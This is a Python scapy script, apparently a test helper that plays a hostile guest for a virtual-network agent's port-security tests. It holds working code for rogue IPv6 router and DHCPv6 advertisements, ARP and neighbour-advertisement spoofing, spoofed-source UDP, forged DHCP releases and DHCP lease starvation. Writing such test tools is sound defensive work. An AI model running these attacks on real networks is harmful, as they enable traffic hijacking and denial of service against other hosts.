#!/usr/bin/python3
"""A hostile guest, for netagent's port-security tests: each command sends
what a guest could do to another guest or to its gateway, on eth0 of the
namespace it runs in. Run with Debian's python3 (python3-scapy).

  attack.py ra                       router advertisement for 2001:db8:bad::/64
  attack.py dhcp6-advertise          a DHCPv6 ADVERTISE to all DHCP agents
  attack.py garp IP                  gratuitous ARP: IP is at this guest's MAC
  attack.py na IP6                   unsolicited neighbour advertisement for IP6
  attack.py udp SRC DST PORT         one UDP datagram from a chosen source
  attack.py udp6 SRC DST PORT        the same over IPv6
  attack.py foreign-mac SRC DST PORT a UDP datagram from another MAC
  attack.py release MAC IP SERVER [SRC]
                                     a DHCPRELEASE for MAC's lease of IP, sent
                                     from SRC (default: IP itself)
  attack.py dora N own|invented      N clients under invented MACs take leases
                                     (DISCOVER, OFFER, REQUEST, ACK), sent from
                                     this guest's own MAC or from each invented
                                     one; prints how many got an ACK
"""
import sys

import time

from scapy.all import (ARP, BOOTP, DHCP, AsyncSniffer, ICMPv6ND_NA, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo,
                       ICMPv6NDOptSrcLLAddr, IP, IPv6, UDP, Ether, conf, get_if_hwaddr,
                       mac2str, sendp)
from scapy.layers.dhcp6 import DHCP6_Advertise, DHCP6OptClientId, DHCP6OptServerId, DUID_LL

conf.verb = 0
IF = "eth0"
MAC = get_if_hwaddr(IF)
ALL_NODES = "33:33:00:00:00:01"


def send(frame, count=3):
    sendp(frame, iface=IF, count=count, inter=0.02)


def invented(i):
    return "02:00:%02x:%02x:%02x:%02x" % (0x40, (i >> 16) & 0xff, (i >> 8) & 0xff, i & 0xff)


def client(kind, chaddr, src, xid, extra=()):
    return (Ether(src=src, dst="ff:ff:ff:ff:ff:ff")
            / IP(src="0.0.0.0", dst="255.255.255.255")
            / UDP(sport=68, dport=67)
            / BOOTP(chaddr=mac2str(chaddr), xid=xid, flags=0x8000)
            / DHCP(options=[("message-type", kind), ("client_id", b"\x01" + mac2str(chaddr))] + list(extra) + ["end"]))


def replies(seconds):
    """Start sniffing DHCP replies; return a function that stops and gives
    {xid: (message type, yiaddr, server id)}."""
    sn = AsyncSniffer(iface=IF, filter="udp and dst port 68", store=True)
    sn.start()
    time.sleep(0.2)

    def done():
        time.sleep(seconds)
        got = {}
        for p in sn.stop() or []:
            if BOOTP not in p or DHCP not in p:
                continue
            opts = {o[0]: o[1] for o in p[DHCP].options if isinstance(o, tuple)}
            got[p[BOOTP].xid] = (opts.get("message-type"), p[BOOTP].yiaddr, opts.get("server_id"))
        return got
    return done


def dora(n, own):
    macs = [invented(i) for i in range(n)]
    src = lambda m: MAC if own else m
    wait = replies(2.0)
    for i, m in enumerate(macs):
        sendp(client("discover", m, src(m), 0x7000 + i), iface=IF)
    offers = wait()
    wait = replies(2.0)
    for i, m in enumerate(macs):
        o = offers.get(0x7000 + i)
        if o and o[0] == 2:
            sendp(client("request", m, src(m), 0x7000 + i,
                         [("requested_addr", o[1]), ("server_id", o[2])]), iface=IF)
    acks = wait()
    print(sum(1 for v in acks.values() if v[0] == 5))


def main(argv):
    cmd = argv[0]
    if cmd == "ra":
        send(Ether(src=MAC, dst=ALL_NODES) / IPv6(src="fe80::bad", dst="ff02::1")
             / ICMPv6ND_RA(routerlifetime=1800)
             / ICMPv6NDOptSrcLLAddr(lladdr=MAC)
             / ICMPv6NDOptPrefixInfo(prefix="2001:db8:bad::", prefixlen=64, L=1, A=1,
                                     validlifetime=86400, preferredlifetime=86400))
    elif cmd == "dhcp6-advertise":
        send(Ether(src=MAC, dst="33:33:00:01:00:02") / IPv6(src="fe80::bad", dst="ff02::1:2")
             / UDP(sport=547, dport=546)
             / DHCP6_Advertise(trid=0x123456)
             / DHCP6OptServerId(duid=DUID_LL(lladdr=MAC))
             / DHCP6OptClientId(duid=DUID_LL(lladdr="52:54:00:00:00:01")))
    elif cmd == "garp":
        ip = argv[1]
        send(Ether(src=MAC, dst="ff:ff:ff:ff:ff:ff")
             / ARP(op=2, hwsrc=MAC, psrc=ip, hwdst="ff:ff:ff:ff:ff:ff", pdst=ip))
    elif cmd == "na":
        ip6 = argv[1]
        send(Ether(src=MAC, dst=ALL_NODES) / IPv6(src="fe80::bad", dst="ff02::1")
             / ICMPv6ND_NA(tgt=ip6, R=1, S=0, O=1) / ICMPv6NDOptSrcLLAddr(lladdr=MAC))
    elif cmd in ("udp", "foreign-mac"):
        src, dst, port = argv[1], argv[2], int(argv[3])
        mac = "02:00:00:00:00:99" if cmd == "foreign-mac" else MAC
        send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=src, dst=dst) / UDP(sport=port, dport=port) / b"attack")
    elif cmd == "udp6":
        src, dst, port = argv[1], argv[2], int(argv[3])
        send(Ether(src=MAC, dst=ALL_NODES) / IPv6(src=src, dst=dst) / UDP(sport=port, dport=port) / b"attack")
    elif cmd == "release":
        mac, ip, server = argv[1], argv[2], argv[3]
        src = argv[4] if len(argv) > 4 else ip
        send(Ether(src=MAC, dst="ff:ff:ff:ff:ff:ff")
             / IP(src=src, dst=server)
             / UDP(sport=68, dport=67)
             / BOOTP(chaddr=mac2str(mac), ciaddr=ip, xid=0x5150)
             / DHCP(options=[("message-type", "release"), ("server_id", server),
                             ("client_id", b"\x01" + mac2str(mac)), "end"]))
    elif cmd == "dora":
        dora(int(argv[1]), argv[2] == "own")
    else:
        sys.exit("unknown attack: " + cmd)


if __name__ == "__main__":
    main(sys.argv[1:])
